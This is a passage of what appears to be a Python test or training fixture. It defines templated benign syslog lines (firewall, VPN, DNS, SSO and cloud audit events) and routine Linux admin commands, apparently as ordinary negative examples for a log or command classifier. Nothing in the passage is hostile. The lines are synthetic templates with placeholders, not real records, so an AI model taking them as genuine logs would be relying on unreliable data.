lr-ok-asa-vpn syslog: %ASA-«4-113019: Group = Employees, Username = ‹user›, IP = ‹ip›, Session disconnected. Session Type: SSL, Duration: 2h:‹n›m:11s, Bytes xmt: ‹pid›, Reason: User Requested¦6-722022: Group <Employees> User <‹user›> IP <‹ip›> TCP SVC connection established without compression»
lr-ok-fortigate syslog: date=2024-03-1«1¦7» time=0«2¦9»:17:5«1¦4» devname="FGT‹n›" logid="0000000013" type="traffic" subtype="forward" level="notice" srcip=‹ip› srcport=‹pid› dstip=‹ip› dstport=443 proto=6 action="«close¦accept¦timeout»" policyid=‹n› service="HTTPS" sentbyte=‹pid› rcvdbyte=‹pid›
lr-ok-fortigate-admin syslog: devname="FGT‹n›" logid="0100032«001¦003»" type="event" subtype="system" logdesc="Admin «login successful¦logout successful»" user="‹first›" ui="https(‹ip›)" method="https" srcip=‹ip› action="«login¦logout»" status="success"
lr-ok-paloalto syslog: 1,2024/03/1‹n› 09:1‹n›:44,0‹pid›,TRAFFIC,end,2561,2024/03/11 09:17:44,‹ip›,‹ip›,0.0.0.0,0.0.0.0,allow-web,‹domain›\‹first›,,«ssl¦web-browsing¦dns-base¦ms-teams»,vsys1,trust,untrust,ethernet1/2,ethernet1/1,syslog,‹pid›,1,‹pid›,443,0,0,0x1c,tcp,allow,‹pid›
lr-ok-cisco syslog: %«LINEPROTO-5-UPDOWN: Line protocol on Interface GigabitEthernet1/0/‹n›, changed state to «up¦down»¦SYS-5-CONFIG_I: Configured from console by ‹first› on vty0 (‹ip›)¦SEC_LOGIN-5-LOGIN_SUCCESS: Login Success [user: ‹first›] [Source: ‹ip›] [localport: 22]¦SPANTREE-5-TOPOTRAP: Topology Change Trap for vlan ‹n›»
lr-ok-juniper syslog: RT_FLOW: RT_FLOW_SESSION_«CREATE: session created ‹ip›/‹pid›->‹ip›/53 0x0 junos-dns-udp¦CLOSE: session closed TCP FIN: ‹ip›/‹pid›->‹ip›/443 0x0 junos-https» ‹ip›/‹pid›->‹ip›/443 source-nat-rule trust untrust ‹pid›
lr-ok-dhcpd syslog: dhcpd[‹pid›]: DHCP«REQUEST for ‹ip› from 00:50:56:«a1¦9c»:«0f¦4d»:‹n› (‹server›) via eth0¦ACK on ‹ip› to 00:0c:29:«a1¦9c»:«0f¦4d»:‹n› via ens192¦DISCOVER from 3c:52:82:«a1¦9c»:«0f¦4d»:‹n› via ‹ip›»
lr-ok-named syslog: named[‹pid›]: «client @0x7f‹pid› ‹ip›#‹pid› (‹word›.‹fqdn›): query: ‹word›.‹fqdn› IN «A¦AAAA¦MX» + (‹ip›)¦zone ‹fqdn›/IN: sending notifies (serial 2024‹pid›)¦managed-keys-zone: Key 20326 for zone . is now trusted»
lr-ok-dnsmasq syslog: «dnsmasq¦pihole-FTL»[‹pid›]: «query[A] www.‹word›.com from ‹ip›¦reply www.‹word›.com is ‹ip›¦cached ‹word›.‹fqdn› is ‹ip›¦forwarded api.‹word›.com to ‹ip›»
lr-ok-openvpn syslog: «openvpn¦ovpn-server»[‹pid›]: ‹first›/‹ip›:‹pid› «MULTI: primary virtual IP for ‹first›/‹ip›:‹pid›: 10.8.0.‹n›¦TLS: soft reset sec=3600/3600 bytes=‹pid›/-1¦Control Channel: TLSv1.3, cipher TLS_AES_256_GCM_SHA384, peer certificate: 2048 bits RSA»
lr-ok-ipsec syslog: charon[‹pid›]: ‹n›[IKE] «IKE_SA branch‹n›[‹n›] established between ‹ip›[‹fqdn›]...‹ip›[‹word›]¦sending keep alive to ‹ip›[4500]¦CHILD_SA net{‹n›} established with SPIs c‹pid›_i c‹pid›_o»
lr-ok-squid syslog: squid[‹pid›]: 17‹pid›.‹pid› ‹n› ‹ip› «TCP_TUNNEL/200¦TCP_MISS/200¦TCP_HIT/200» ‹pid› «CONNECT www.‹word›.com:443¦GET http://deb.debian.org/debian/dists/bookworm/InRelease» ‹first› HIER_DIRECT/‹ip› -
lr-ok-okta syslog: okta: {"eventType":"user.«session.start¦authentication.sso¦session.end»","outcome":{"result":"SUCCESS"},"actor":{"alternateId":"‹first›@‹fqdn›","type":"User"},"client":{"ipAddress":"‹ip›","device":"Computer"},"displayMessage":"User «login to Okta¦single sign on to app¦logout from Okta»"}
lr-ok-github syslog: github-audit: {"action":"«git.clone¦git.push¦pull_request.merge¦workflows.completed_workflow_run»","actor":"‹first›","repo":"‹word›/‹project›","org":"‹word›","transport_protocol_name":"ssh","@timestamp":17‹pid›‹pid›}
lr-ok-google syslog: gws: {"kind":"admin#reports#activity","id":{"applicationName":"«login¦drive¦calendar»"},"actor":{"email":"‹first›@‹fqdn›"},"ipAddress":"‹ip›","events":[{"type":"«login¦access»","name":"«login_success¦view¦edit»"}]}
lr-ok-cloudtrail syslog: cloudtrail: {"eventVersion":"1.08","eventSource":"«ec2¦autoscaling¦elasticloadbalancing¦monitoring».amazonaws.com","eventName":"«DescribeInstanceStatus¦DescribeTargetHealth¦PutMetricData»","userIdentity":{"type":"AssumedRole","invokedBy":"autoscaling.amazonaws.com"},"readOnly":true,"sourceIPAddress":"autoscaling.amazonaws.com"}
lr-ok-vault syslog: vault[‹pid›]: {"type":"response","auth":{"display_name":"approle","policies":["default","‹project›"]},"request":{"operation":"«update¦read»","path":"«auth/approle/login¦auth/token/renew-self¦sys/health»"},"response":{"mount_type":"approle"}}
lr-ok-slack syslog: slack-audit: {"action":"«user_login¦file_uploaded¦channel_joined¦app_installed»","actor":{"type":"user","user":{"email":"‹first›@‹fqdn›"}},"context":{"ip_address":"‹ip›","ua":"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7)"}}
lr-ok-vmware syslog: «vpxd¦Hostd¦vobd»: «info vpxd[‹pid›] [Originator@6876 sub=vpxLro] [VpxLRO] -- BEGIN task-‹pid› -- vm-‹n› -- vim.VirtualMachine.powerOn¦[‹pid›] Event ‹pid› : User ‹domain›\‹first›@‹ip› logged in as VMware-client¦[netCorrelator] ‹pid›us: [vob.net.vmnic.linkstate.up] vmnic vmnic0 linkstate up»
lr-ok-printer syslog: «cupsd¦lpd¦HP LaserJet»[‹pid›]: «[Job ‹n›] Job completed.¦REQUEST localhost - - "POST / HTTP/1.1" 200 ‹pid› CUPS-Get-Jobs successful-ok¦printer: ready to print¦peripheral low-power state»
lr-ok-wifi syslog: «hostapd¦unifi¦wlc»[‹pid›]: «wlan0: STA 3c:52:82:a1:0f:‹n› IEEE 802.11: associated (aid ‹n›)¦wlan0: STA 3c:52:82:a1:0f:‹n› WPA: pairwise key handshake completed (RSN)¦EVT_WU_Roam: user roams from ap ‹word› to ap ‹project›»
lr-ok-radius syslog: «radiusd¦freeradius»[‹pid›]: (‹pid›) Login OK: [‹first›] (from client ap‹n› port ‹n› cli 3c-52-82-a1-0f-‹n›)
lr-ok-ups syslog: «upsmon¦apcupsd¦smartd¦snmpd¦ipmievd»[‹pid›]: «UPS ups@localhost on line power¦Device: /dev/sda [SAT], SMART Usage Attribute: 194 Temperature_Celsius changed from ‹n› to ‹n›¦Connection from UDP: [‹ip›]:‹pid›->[‹ip›]:161¦Fan sensor Fan1 Lower Critical deasserted»
"""
)

RECORDED_LINUX_ORDINARY_LINES = _rows(
    r"""
lr-ok-b-systemctl bash: «systemctl daemon-reload && systemctl restart ‹word›-exporter¦systemctl show -p MainPID --value nginx¦systemd-analyze blame¦systemctl cat docker.service¦systemctl list-dependencies multi-user.target»
lr-ok-b-journal bash: «journalctl -p err -b --no-pager¦journalctl --disk-usage¦journalctl -u kubelet --since '10 min ago'¦journalctl _PID=1 -o short-iso¦journalctl --vacuum-time=30d»
lr-ok-b-apt bash: «DEBIAN_FRONTEND=noninteractive apt-get -yq install chrony¦apt-mark hold linux-image-generic¦apt-cache madison docker-ce¦/usr/bin/python3 /usr/bin/unattended-upgrade --download-only¦needrestart -r a -k»
lr-ok-b-dnf bash: «dnf -q check-update --security¦dnf -y install epel-release¦rpm --import /etc/pki/rpm-gpg/RPM-GPG-KEY-redhat-release¦dnf clean all¦yum-config-manager --add-repo https://download.docker.com/linux/centos/docker-ce.repo»
lr-ok-b-cloudinit bash: «cloud-init status --wait¦cloud-init schema --system¦/usr/bin/python3 /usr/bin/cloud-init init --local¦/bin/sh /var/lib/cloud/instance/scripts/runcmd¦growpart /dev/nvme0n1 1»
lr-ok-b-ansible bash: «/bin/sh -c '/usr/bin/python3.9 /root/.ansible/tmp/ansible-tmp-17‹pid›-‹pid›/AnsiballZ_setup.py && sleep 0'¦/bin/sh -c 'chmod u+x /home/ansible/.ansible/tmp/ansible-tmp-17‹pid›/AnsiballZ_copy.py && sleep 0'¦ansible-playbook site.yml -i hosts.ini --check --diff¦ansible-lint roles/‹word›»
lr-ok-b-docker bash: «docker compose logs -f --tail=100 ‹word›¦docker stats --no-stream¦docker volume ls -qf dangling=true¦docker image prune -f --filter until=168h¦docker buildx build --platform linux/amd64 -t ‹project›:latest --push .»
lr-ok-b-containerd bash: «/usr/bin/containerd-shim-runc-v2 -namespace moby -id ‹hash› -address /run/containerd/containerd.sock¦crictl images --digests¦ctr -n moby containers ls -q¦runc --root /run/docker/runtime-runc/moby kill ‹hash› 15¦/usr/bin/docker-proxy -proto tcp -host-ip 0.0.0.0 -host-port ‹port› -container-ip 172.17.0.‹n›»
lr-ok-b-kubectl bash: «kubectl rollout status deploy/‹word› -n ‹project› --timeout=120s¦kubectl logs -n ‹project› -l app=‹word› --tail=50¦kubectl apply -f manifests/ --server-side¦helm list -n ‹project›¦kubectl set image deploy/‹word› app=registry.‹fqdn›/‹word›:‹n›»
lr-ok-b-kubelet bash: «/usr/bin/kubelet --config=/var/lib/kubelet/config.yaml --container-runtime-endpoint=unix:///run/containerd/containerd.sock¦/usr/local/bin/k3s server --disable traefik¦kubeadm upgrade plan¦/opt/cni/bin/flannel¦calico-node -felix»
lr-ok-b-exporters bash: «/usr/local/bin/node_exporter --collector.systemd --web.listen-address=:9100¦/usr/bin/prometheus --config.file=/etc/prometheus/prometheus.yml --storage.tsdb.retention.time=30d¦/usr/sbin/grafana-server --config=/etc/grafana/grafana.ini¦/usr/local/bin/blackbox_exporter --config.file=/etc/blackbox.yml¦/usr/bin/cadvisor -logtostderr»
lr-ok-b-monitors bash: «/usr/sbin/zabbix_agentd -c /etc/zabbix/zabbix_agentd.conf -t vfs.fs.size[/,pfree]¦/usr/bin/telegraf --config /etc/telegraf/telegraf.conf --config-directory /etc/telegraf/telegraf.d¦/opt/datadog-agent/embedded/bin/process-agent --cfgpath=/etc/datadog-agent/datadog.yaml¦/usr/lib/nagios/plugins/check_http -H ‹server› -S -C 30¦/usr/bin/check_mk_caching_agent»
lr-ok-b-guards bash: «/usr/bin/osqueryd --flagfile /etc/osquery/osquery.flags --config_path /etc/osquery/osquery.conf¦/var/ossec/bin/wazuh-control status¦/usr/share/auditbeat/bin/auditbeat -e -c /etc/auditbeat/auditbeat.yml¦/opt/CrowdStrike/falconctl -g --version¦/opt/microsoft/mdatp/sbin/wdavdaemon unprivileged --ipcs ‹n›»
lr-ok-b-shippers bash: «/usr/share/filebeat/bin/filebeat test output -c /etc/filebeat/filebeat.yml¦/opt/splunkforwarder/bin/splunkd -p 8089 restart¦/opt/fluent-bit/bin/fluent-bit -c /etc/fluent-bit/fluent-bit.conf¦/usr/bin/vector --config /etc/vector/vector.yaml¦promtail -config.file=/etc/promtail/config.yml»
lr-ok-b-restic bash: «restic -r s3:s3.amazonaws.com/‹word›-backup backup /etc /srv --exclude-caches --tag nightly¦restic check --read-data-subset=5%¦restic snapshots --json --latest 1¦restic unlock»
lr-ok-b-borg bash: «borg create --compression zstd --stats /backup/borg::{hostname}-{now} /etc /home¦borg prune --keep-daily 7 --keep-weekly 4 /backup/borg¦borgmatic --verbosity -1 --syslog-verbosity 1¦borg check --repository-only /backup/borg»
lr-ok-b-rsync bash: «rsync -az --delete --exclude .cache /srv/‹project›/ backup@‹server›:/backup/‹project›/¦rsync --server --sender -vlogDtprze.iLsfxCIvu . /srv/‹project›/¦rsnapshot -q hourly¦tar --listed-incremental=/var/backups/‹project›.snar -czf /var/backups/‹project›-‹n›.tar.gz /srv/‹project›»
lr-ok-b-dumps bash: «pg_basebackup -D /var/backups/base -Ft -z -P -U replicator¦mysqldump --single-transaction --routines ‹project› | gzip > /var/backups/‹project›.sql.gz¦mongodump --archive=/var/backups/‹project›.gz --gzip¦redis-cli --rdb /var/backups/dump.rdb»
lr-ok-b-postgres bash: «psql -h localhost -U ‹word› -d ‹project› -c 'vacuum analyze'¦/usr/lib/postgresql/15/bin/postgres -D /var/lib/postgresql/15/main¦pg_ctlcluster 15 main reload¦pgbackrest --stanza=main info¦createdb -O ‹word› ‹project›_test»
lr-ok-b-mysql bash: «mysql -e 'show replica status\G'¦mysqlcheck --auto-repair --optimize ‹project›¦/usr/sbin/mariadbd --basedir=/usr --datadir=/var/lib/mysql¦mysqladmin processlist»
lr-ok-b-web bash: «nginx -T | grep server_name¦a2ensite ‹project›.conf¦/usr/sbin/apache2 -k graceful¦php-fpm8.1 -t¦certbot certonly --webroot -w /var/www/html -d ‹word›.‹fqdn› -n¦haproxy -c -f /etc/haproxy/haproxy.cfg»
lr-ok-b-mail bash: «postqueue -p¦postmap /etc/postfix/virtual¦doveadm quota get -u ‹first›¦sa-update --nogpg -v¦newaliases¦rspamc stat»
lr-ok-b-runner bash: «gitlab-runner exec docker test¦/opt/actions-runner/run.sh --startuptype service¦bash -e /home/runner/work/_temp/‹hash›.sh¦buildkite-agent start --queue default¦java -jar agent.jar -url https://jenkins.‹fqdn›/ -name ‹word›»
lr-ok-b-git bash: «git rebase -i HEAD~‹n›¦git log --oneline --graph -20¦git submodule update --init --recursive¦git cherry-pick ‹hash›¦git worktree add ../‹word›-fix main¦git bisect good»
lr-ok-b-make bash: «make -j8 V=1 modules_install¦cmake --preset release¦ninja -C build install¦meson setup build --prefix=/usr/local¦./configure --prefix=/opt/‹word› --with-ssl»
lr-ok-b-rust bash: «cargo clippy --all-targets -- -D warnings¦cargo nextest run --workspace¦rustup update stable¦cargo install --path . --locked¦/home/‹first›/.cargo/bin/rust-analyzer»
lr-ok-b-node bash: «npm run dev -- --port ‹port›¦npx prettier --write src¦pnpm install --frozen-lockfile¦node --inspect server.js¦npm audit fix¦yarn workspace ‹word› build»
lr-ok-b-python bash: «python3 -m venv .venv && . .venv/bin/activate¦pip install -e '.[dev]'¦poetry install --no-root¦uv sync --frozen¦python3 manage.py migrate --noinput¦gunicorn -w 4 -b 127.0.0.1:‹port› ‹project›.wsgi»
lr-ok-b-go bash: «go mod tidy¦go test -race ./...¦golangci-lint run --timeout 5m¦goreleaser release --snapshot --clean¦gopls -mode=stdio»
lr-ok-b-java bash: «mvn -q -DskipTests package¦./gradlew test --parallel¦java -Xmx2g -jar /opt/‹word›/app.jar --spring.profiles.active=prod¦/usr/bin/java -Djava.awt.headless=true -jar /usr/share/java/jenkins.war¦jstat -gcutil ‹pid› 1000 5»
lr-ok-b-edit bash: «vim +PlugUpdate +qall¦nvim src/‹name›.py¦tmux new -As ‹word›¦screen -r build¦less +F /var/log/nginx/error.log¦emacsclient -t notes.org»
lr-ok-b-sudoadmin bash: «sudo visudo -cf /etc/sudoers¦sudo -u www-data php /var/www/nextcloud/occ maintenance:mode --off¦sudo tail -n 100 /var/log/nginx/error.log¦sudo install -m 0755 kubectl /usr/local/bin/kubectl¦sudo netplan try --timeout 60»
lr-ok-b-disk bash: «du -xsh /var/* | sort -h¦df -hT -x tmpfs¦lvs --noheadings -o lv_name,data_percent¦smartctl -a -j /dev/nvme0n1¦zpool status -x¦mdadm --detail --scan»
lr-ok-b-logrotate bash: «/usr/sbin/logrotate -f /etc/logrotate.d/‹word›¦/bin/sh -c 'invoke-rc.d rsyslog rotate > /dev/null'¦/usr/lib/rsyslog/rsyslog-rotate¦gzip -9 /var/log/‹word›.log.1¦/bin/kill -USR1 `cat /run/nginx.pid`»
lr-ok-b-cron bash: «/bin/sh -c 'test -e /run/systemd/system || SERVICE_MODE=1 /sbin/e2scrub_all -A -r'¦/bin/sh -c '[ -x /usr/lib/php/sessionclean ] && /usr/lib/php/sessionclean'¦/etc/cron.daily/apt-compat¦/usr/sbin/anacron -dsq¦/bin/sh -c 'cd /var/www/‹project› && php artisan schedule:run >> /dev/null 2>&1'»
lr-ok-b-terraform bash: «terraform plan -out=tfplan -input=false¦terragrunt run-all validate¦packer build -var-file=‹word›.pkrvars.hcl .¦vault token renew -increment=1h¦consul agent -config-dir=/etc/consul.d¦nomad job plan ‹word›.nomad»
lr-ok-b-cloud bash: «aws ecr get-login-password --region eu-west-1¦az acr build -r ‹word› -t ‹project›:‹n› .¦gcloud run deploy ‹word› --source . --region europe-west1¦aws s3 cp dist/ s3://‹word›-static/ --recursive --cache-control max-age=300¦eksctl get nodegroup --cluster ‹word›»
lr-ok-b-network bash: «wg-quick up wg0¦ufw allow from 10.0.0.0/8 to any port 9100 proto tcp¦firewall-cmd --reload¦iptables-restore < /etc/iptables/rules.v4¦keepalived -n -l -D¦ethtool -i eth0»
lr-ok-b-certs bash: «openssl s_client -connect ‹server›:443 -servername ‹fqdn› < /dev/null¦update-ca-certificates --fresh¦openssl rand -base64 32¦step ca renew --force ‹word›.crt ‹word›.key¦acme.sh --cron --home /root/.acme.sh»
lr-ok-b-sshd bash: «/usr/sbin/sshd -D -R¦sshd: ‹first›@pts/‹n›¦/usr/lib/openssh/sftp-server -l INFO¦ssh -J bastion.‹fqdn› ‹first›@‹server›¦ssh-keygen -t ed25519 -C ‹first›@‹fqdn› -f ~/.ssh/id_ed25519»
lr-ok-b-motd bash: «run-parts --lsbsysinit /etc/update-motd.d¦/usr/lib/update-notifier/apt-check --human-readable¦/usr/bin/python3 -Es /usr/bin/lsb_release -cs¦/usr/lib/ubuntu-release-upgrader/release-upgrade-motd¦landscape-sysinfo --sysinfo-plugins=Load,Disk»
lr-ok-b-dpkg bash: «/usr/bin/dpkg --status-fd ‹n› --configure --pending¦/bin/sh /var/lib/dpkg/info/openssh-server.postinst configure¦update-initramfs -u -k all¦/usr/sbin/update-grub¦deb-systemd-helper enable nginx.service¦dpkg-reconfigure -f noninteractive tzdata»
lr-ok-b-kernel bash: «dkms autoinstall -k 5.15.0-‹pid›-generic¦kernel-install add 5.14.0-‹pid› /boot/vmlinuz¦dracut -f --regenerate-all¦sysctl --system¦modprobe -r floppy¦udevadm settle --timeout=30»
lr-ok-b-desktop bash: «/usr/libexec/tracker-miner-fs-3¦/usr/bin/gnome-keyring-daemon --foreground --components=secrets¦/snap/firefox/‹pid›/usr/lib/firefox/firefox -contentproc¦/usr/bin/evolution-alarm-notify¦flatpak run com.slack.Slack»
"""
)
